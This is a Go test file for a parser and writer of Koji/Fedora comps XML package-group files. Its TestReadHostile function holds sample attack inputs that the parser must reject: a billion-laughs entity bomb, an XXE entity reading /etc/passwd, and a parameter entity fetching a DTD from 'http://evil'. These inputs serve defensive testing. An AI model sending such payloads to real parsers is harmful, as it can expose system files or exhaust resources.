package comps

import (
	"bytes"
	"errors"
	"os"
	"reflect"
	"sort"
	"strings"
	"testing"
)

func ptr[T any](v T) *T { return &v }

// kojiGroups are the groups of testdata/generate_comps*.xml. Those files are
// what Koji 1.35's koji.generate_comps writes for the same groups (as
// getTagGroups returns them: description None, "" and set; a blocked-free
// grouplist with a missing group, a metapkg, a type of None; a package in
// two expanded groups), with expand_groups False and True.
func kojiGroups() []Group {
	return []Group{
		{ID: "srpm-build", Name: "srpm-build", UserVisible: true, Packages: []Package{
			{Name: "rpm-build", Type: "mandatory"}, {Name: "bash", Type: "mandatory"}, {Name: "fedpkg-minimal", Type: "default"}}},
		{ID: "build", Name: "Buildsystem building group", Description: ptr("Minimal set for building RPMs"), Default: true, BiarchOnly: true,
			Packages: []Package{{Name: "gcc", Type: "mandatory", BasearchOnly: true}, {Name: "bash", Type: "mandatory"},
				{Name: "libselinux-python3", Type: "conditional", Requires: "selinux-policy"}},
			Groups: []GroupReq{{Name: "srpm-build", Type: "mandatory"}, {Name: "core"}, {Name: "appliance", Type: "optional", IsMetapkg: true}}},
		{ID: "appliance", Name: "Appliance", Description: ptr(""), UserVisible: true, LangOnly: ptr("fr"),
			Groups: []GroupReq{{Name: "srpm-build", Type: "mandatory"}, {Name: "extra"}}},
		{ID: "extra", Name: "Extra", Description: ptr("x"), UserVisible: true, Packages: []Package{
			{Name: "rpm-build", Type: "optional"}, {Name: "zsh", Type: "default"}}},
	}
}

func TestWriteAsKoji(t *testing.T) {
	for _, tc := range []struct {
		golden string
		opts   WriteOptions
	}{
		{"testdata/generate_comps.xml", WriteOptions{}},
		{"testdata/generate_comps_expanded.xml", WriteOptions{ExpandGroups: true}},
	} {
		want, err := os.ReadFile(tc.golden)
		if err != nil {
			t.Fatal(err)
		}
		groups := kojiGroups()
		before := kojiGroups()
		var b bytes.Buffer
		if err := Write(&b, groups, tc.opts); err != nil {
			t.Fatal(err)
		}
		if b.String() != string(want) {
			t.Errorf("Write(%+v) differs from %s:\n%s", tc.opts, tc.golden, b.String())
		}
		if !reflect.DeepEqual(groups, before) {
			t.Errorf("Write(%+v) changed its argument", tc.opts)
		}
	}
}

func TestWriteEmpty(t *testing.T) {
	var b bytes.Buffer
	if err := Write(&b, nil, WriteOptions{}); err != nil {
		t.Fatal(err)
	}
	if want := header + "</comps>\n"; b.String() != want {
		t.Errorf("Write(nil) = %q, want %q", b.String(), want)
	}
}

func TestWriteEscapes(t *testing.T) {
	g := []Group{{ID: "g", Name: `Tools & <Utils>`, Description: ptr("bad \x01 byte \xff and \"quotes\""),
		Packages: []Package{{Name: "p", Type: `x"y`, Requires: "a&b"}},
		Groups:   []GroupReq{{Name: "missing--group"}}}}
	var b bytes.Buffer
	if err := Write(&b, g, WriteOptions{ExpandGroups: true}); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	for _, want := range []string{
		"<name>Tools &amp; &lt;Utils&gt;</name>",
		"<description>bad \uFFFD byte \uFFFD and \"quotes\"</description>",
		`<packagereq type="x&quot;y" requires="a&amp;b">p</packagereq>`,
		"<!-- MISSING GROUP: missing-\uFFFDgroup -->",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("Write output lacks %q:\n%s", want, out)
		}
	}
	back, err := Read(strings.NewReader(out))
	if err != nil {
		t.Fatalf("Read(Write(...)) = %v\n%s", err, out)
	}
	if back[0].Name != g[0].Name || back[0].Packages[0].Requires != "a&b" {
		t.Errorf("round trip of escaped text = %+v", back[0])
	}
}

func TestReadFedoraStyle(t *testing.T) {
	f, err := os.Open("testdata/fedora-style.xml")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	groups, err := Read(f)
	if err != nil {
		t.Fatal(err)
	}
	var ids []string
	for _, g := range groups {
		ids = append(ids, g.ID)
	}
	if want := []string{"build", "srpm-build", "core", "french-support", "empty"}; !reflect.DeepEqual(ids, want) {
		t.Fatalf("groups %v, want %v (categories and environments are not groups)", ids, want)
	}
	build := groups[0]
	if build.Name != "Buildsystem building group" || *build.Description != "Packages every buildroot gets" || build.Default || build.UserVisible ||
		len(build.Packages) != 22 || build.Packages[0] != (Package{Name: "bash", Type: "mandatory"}) {
		t.Errorf("build = %+v", build)
	}
	srpm := groups[1]
	if srpm.Default || srpm.UserVisible || srpm.Packages[0].Type != "mandatory" || !reflect.DeepEqual(srpm.Groups, []GroupReq{{Name: "core"}}) {
		t.Errorf("srpm-build = %+v (a packagereq without type is mandatory)", srpm)
	}
	core := groups[2]
	wantCore := []Package{
		{Name: "basesystem", Type: "mandatory"}, {Name: "bash", Type: "mandatory"},
		{Name: "grub2-efi-x64", Type: "mandatory", BasearchOnly: true}, {Name: "dnf", Type: "default"},
		{Name: "dracut-config-rescue", Type: "optional"},
		{Name: "libselinux-python3", Type: "conditional", Requires: "selinux-policy"},
	}
	if core.Name != "Core" || *core.Description != "Smallest possible installation & nothing more" || !core.Default || !reflect.DeepEqual(core.Packages, wantCore) {
		t.Errorf("core = %+v", core)
	}
	fr := groups[3]
	if *fr.Description != "Support pour le français" || !fr.UserVisible || !fr.BiarchOnly || fr.LangOnly == nil || *fr.LangOnly != "fr" ||
		!reflect.DeepEqual(fr.Groups, []GroupReq{{Name: "core", Type: "mandatory"}, {Name: "fonts", Type: "optional", IsMetapkg: true}}) ||
		fr.Packages[1] != (Package{Name: "mystery", Type: "unknown"}) {
		t.Errorf("french-support = %+v", fr)
	}
	empty := groups[4]
	if empty.Description != nil || empty.LangOnly != nil || !empty.UserVisible || empty.Default || len(empty.Packages) != 0 {
		t.Errorf("empty = %+v (defaults: visible, not default, no description)", empty)
	}
}

// TestRoundTrip: what Write writes, Read reads back (in Koji's order).
func TestRoundTrip(t *testing.T) {
	f, err := os.ReadFile("testdata/fedora-style.xml")
	if err != nil {
		t.Fatal(err)
	}
	groups, err := Read(bytes.NewReader(f))
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := Write(&b, groups, WriteOptions{}); err != nil {
		t.Fatal(err)
	}
	back, err := Read(&b)
	if err != nil {
		t.Fatal(err)
	}
	if len(back) != len(groups) {
		t.Fatalf("%d groups back, want %d", len(back), len(groups))
	}
	byID := map[string]Group{}
	for _, g := range groups {
		byID[g.ID] = g
	}
	for _, g := range back {
		want := byID[g.ID]
		if want.Description == nil {
			want.Description = ptr("None") // as Koji writes None
		}
		want.LangOnly = nil // generate_comps does not write langonly
		want.Packages = sortedPackages(want.Packages)
		if len(want.Packages) == 0 {
			want.Packages = nil
		}
		// grouplists come back sorted by name
		want.Groups = append([]GroupReq(nil), want.Groups...)
		sort.SliceStable(want.Groups, func(i, j int) bool { return want.Groups[i].Name < want.Groups[j].Name })
		if len(want.Groups) == 0 {
			want.Groups = nil
		}
		if !reflect.DeepEqual(g, want) {
			t.Errorf("round trip of %s:\n got %+v\nwant %+v", g.ID, g, want)
		}
	}
}

func TestReadHostile(t *testing.T) {
	bomb := `<?xml version="1.0"?>
<!DOCTYPE comps [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<comps><group><id>&lol3;</id></group></comps>`
	external := `<?xml version="1.0"?>
<!DOCTYPE comps [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<comps><group><id>&xxe;</id></group></comps>`
	deep := "<comps><group><id>x</id>" + strings.Repeat("<a>", 100) + strings.Repeat("</a>", 100) + "</group></comps>"
	for _, tc := range []struct {
		name, doc string
		is        error
		msg       string
	}{
		{"billion laughs", bomb, ErrEntity, ""},
		{"external entity", external, ErrEntity, ""},
		{"undeclared entity", `<comps><group><id>&nbsp;</id></group></comps>`, nil, "entity"},
		{"parameter entity", `<!DOCTYPE comps [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]><comps/>`, ErrEntity, ""},
		{"too deep", deep, nil, "nested deeper"},
		{"too large", "<comps>" + strings.Repeat(" ", MaxSize) + "</comps>", ErrTooLarge, ""},
		{"long text", "<comps><group><id>" + strings.Repeat("x", maxText+1) + "</id></group></comps>", nil, "longer than"},
		{"not comps", `<rss><group><id>x</id></group></rss>`, nil, "not a comps file"},
		{"two roots", `<comps/><comps/>`, nil, ""},
		{"empty", ``, nil, "no <comps>"},
		{"not xml", `{"groups": []}`, nil, ""},
		{"unclosed", `<comps><group><id>x</id>`, nil, ""},
		{"group without id", `<comps><group><name>x</name></group></comps>`, nil, "no <id>"},
		{"package without name", `<comps><group><id>g</id><packagelist><packagereq type="mandatory"> </packagereq></packagelist></group></comps>`, nil, "no package name"},
		{"element in text", `<comps><group><id>a<b/>c</id></group></comps>`, nil, "inside"},
		{"latin1", `<?xml version="1.0" encoding="ISO-8859-1"?><comps/>`, nil, ""},
	} {
		groups, err := Read(strings.NewReader(tc.doc))
		if err == nil {
			t.Errorf("%s: Read = %+v, want an error", tc.name, groups)
			continue
		}
		if tc.is != nil && !errors.Is(err, tc.is) {
			t.Errorf("%s: Read error %v, want %v", tc.name, err, tc.is)
		}
		if !strings.Contains(err.Error(), tc.msg) {
			t.Errorf("%s: Read error %q, want it to mention %q", tc.name, err, tc.msg)
		}
	}
}

func FuzzRead(f *testing.F) {
	seed, _ := os.ReadFile("testdata/fedora-style.xml")
	f.Add(seed)
	f.Add([]byte(`<comps><group><id>x</id><grouplist><metapkg>y</metapkg></grouplist></group></comps>`))
	f.Fuzz(func(t *testing.T, doc []byte) {
		groups, err := Read(bytes.NewReader(doc))
		if err != nil {
			return
		}
		var b bytes.Buffer
		if err := Write(&b, groups, WriteOptions{ExpandGroups: true}); err != nil {
			t.Fatal(err)
		}
		if _, err := Read(&b); err != nil {
			t.Fatalf("Read(Write(Read(doc))) = %v\n%s", err, b.String())
		}
	})
}

func TestReadBounds(t *testing.T) {
	many := "<comps>" + strings.Repeat("<group><id>g</id></group>", maxGroups+1) + "</comps>"
	if _, err := Read(strings.NewReader(many)); err == nil || !strings.Contains(err.Error(), "more than") {
		t.Errorf("Read of %d groups = %v, want a bound", maxGroups+1, err)
	}
	entries := "<comps><group><id>g</id><packagelist>" + strings.Repeat("<packagereq>p</packagereq>", maxEntries+1) + "</packagelist></group></comps>"
	if _, err := Read(strings.NewReader(entries)); err == nil || !strings.Contains(err.Error(), "more than") {
		t.Errorf("Read of %d packagereqs = %v, want a bound", maxEntries+1, err)
	}
}
